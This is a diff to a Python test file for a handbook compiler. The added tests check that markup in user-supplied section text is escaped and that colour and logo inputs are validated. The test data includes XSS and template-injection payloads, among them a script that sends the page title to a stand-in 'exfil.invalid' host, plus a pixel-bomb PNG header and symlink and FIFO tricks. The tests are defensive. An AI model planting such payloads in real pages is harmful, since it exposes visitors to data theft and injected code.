@@ -4,10 +4,14 @@ from __future__ import annotations
 import os
 import re
 import shutil
+import struct
+import zlib
+from pathlib import Path
 
 import pytest
 import yaml
 from click.testing import CliRunner
+from PIL import Image
 
 from handbook.cli import main
 from handbook.compile import compile_handbook
@@ -114,6 +118,21 @@ def test_a_group_adds_and_replaces_in_short_points_and_adds_its_own_paragraph(tm
     assert "my-sections/police.yml" in compiled.warnings[0]
 
 
+MARKUP = ['<script>location = "https://exfil.invalid/?" + document.title</script>',
+          '<meta http-equiv="refresh" content="0; url=https://exfil.invalid/">', '[x](#top){ onclick="alert(1)" }',
+          '{{ group.__class__ }} <img src="https://exfil.invalid/p.gif">']
+
+
+def test_markup_in_a_groups_own_words_for_a_section_is_shown_as_text(tmp_path):
+    group_file = write_group(tmp_path / "g")
+    section(tmp_path / "g", "police", {"points": MARKUP, "paragraph": "\n\n".join(MARKUP)})
+    police = (compile_handbook(group_file, tmp_path / "out").docs / "policy" / "police.md").read_text()
+    for written in MARKUP:
+        assert written not in police
+    assert not re.search(r"<(?:script|meta|img)|\{\s*onclick|\{\{", police.split("## At ")[1])
+    assert police.count("&#60;script&#62;location") == 2  # once a point, once the paragraph
+
+
 @pytest.mark.parametrize("name, content, message", [
     ("polce", {"points": ["x"]}, "my-sections/polce.yml: there is no section called 'polce'. Name the file after one"),
     ("police", {"in_short": "swap"}, "my-sections/police.yml, line 1: in_short: expected 'add' or 'replace'"),
@@ -158,7 +177,7 @@ def test_a_brand_colour_too_light_to_read_is_refused_with_a_darker_suggestion(tm
 
 def test_a_logo_and_a_colour_reach_the_site(tmp_path):
     group_file = write_group(tmp_path / "g", colour='"#0b5394"', logo="logo.png")
-    (tmp_path / "g" / "logo.png").write_bytes((REPO / "docs/assets/screenshots/home.png").read_bytes()[:150_000])
+    Image.new("RGB", (240, 80), "#0b5394").save(tmp_path / "g" / "logo.png")
     compiled = compile_handbook(group_file, tmp_path / "out")
     assert compiled.settings["theme"]["logo"] == "assets/logo.png" and (compiled.docs / "assets/logo.png").is_file()
     assert "--md-primary-fg-color: #0b5394" in (compiled.docs / "assets/brand.css").read_text()
@@ -167,6 +186,39 @@ def test_a_logo_and_a_colour_reach_the_site(tmp_path):
     (tmp_path / "g" / "logo.svg").write_text("<svg/>")
     with pytest.raises(HandbookError, match=r"logo: expected a picture file ending in .png, .jpg, .jpeg, .webp"):
         load_group(group_file)
+
+
+def png_header(width: int, height: int) -> bytes:
+    """A PNG that says it is width x height pixels, with one row of data: opening it costs nothing."""
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
+            + chunk(b"IDAT", zlib.compress(b"\0" * 4)) + chunk(b"IEND", b""))
+
+
+@pytest.mark.parametrize("colour, logo, content, said", [
+    ('"#0b5394\\n"', None, None, "colour: expected a colour written like #00564d"),
+    ('"#0b5394; }"', None, None, "colour: expected a colour written like #00564d"),
+    (None, "logo.png", png_header(40_000, 40_000), "logo: the logo has too many pixels; at most 2,000 pixels on each"),
+    (None, "logo.png", png_header(3_000, 10), "logo: the logo is 3,000 x 10 pixels; at most 2,000 pixels on each"),
+    (None, "logo.png", b"just some text, named like a picture", "logo: the file is not a PNG picture"),
+    (None, "logo.jpg", png_header(100, 100), "logo: the file is not a JPEG picture (its name ends in .jpg)"),
+    (None, "logo.png", Path("/dev/zero"), "logo: the logo must be a file in your group's folder"),
+    (None, "logo.png", "fifo", "logo: the logo is not an ordinary file"),
+    (None, "logo.png", b"x" * 300_000, "logo: the logo is over 200 KB"),
+])
+def test_a_colour_is_matched_whole_and_a_logo_is_opened_and_measured(tmp_path, colour, logo, content, said):
+    group_file = write_group(tmp_path / "g", **{key: value for key, value in (("colour", colour), ("logo", logo))
+                                                if value})
+    if isinstance(content, bytes):
+        (tmp_path / "g" / logo).write_bytes(content)
+    elif content == "fifo":
+        os.mkfifo(tmp_path / "g" / logo)
+    elif content:
+        (tmp_path / "g" / logo).symlink_to(content)
+    with pytest.raises(HandbookError) as raised:
+        load_group(group_file)
+    assert said in str(raised.value) and "group.yml, line " in str(raised.value)
 
 
 CASE_FILE_WORDS = re.compile(r"their own file|their file|Their case file|show them their file|your own file|"
